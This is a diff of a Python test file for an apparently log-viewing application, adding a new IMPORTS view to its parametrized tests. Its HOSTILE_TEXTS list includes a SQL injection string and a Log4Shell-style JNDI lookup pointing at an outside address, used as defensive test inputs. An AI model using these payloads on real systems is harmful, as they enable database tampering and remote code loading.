@@ -9,7 +9,7 @@ import pytest
 from tests.made_logs import FORMULA, HOSTILE_HTML
 from viewer import queries, tables
 from viewer.filters import Chosen, Kind, ListView, read
-from viewer.lists import EVAL_SETS, EVALS, SAMPLES
+from viewer.lists import EVAL_SETS, EVALS, IMPORTS, SAMPLES
 
 HOSTILE_TEXTS = [
     "' or 1=1 --",
@@ -24,7 +24,7 @@ HOSTILE_TEXTS = [
     "${jndi:ldap://192.0.2.1}",
     "\u202e\ufeff🦅",
 ]
-VIEWS = [pytest.param(view, id=view.relation) for view in (EVAL_SETS, EVALS, SAMPLES)]
+VIEWS = [pytest.param(view, id=view.page) for view in (EVAL_SETS, EVALS, SAMPLES, IMPORTS)]
 MANY = 10_000
 
 pytestmark = pytest.mark.usefixtures("filled_viewer")
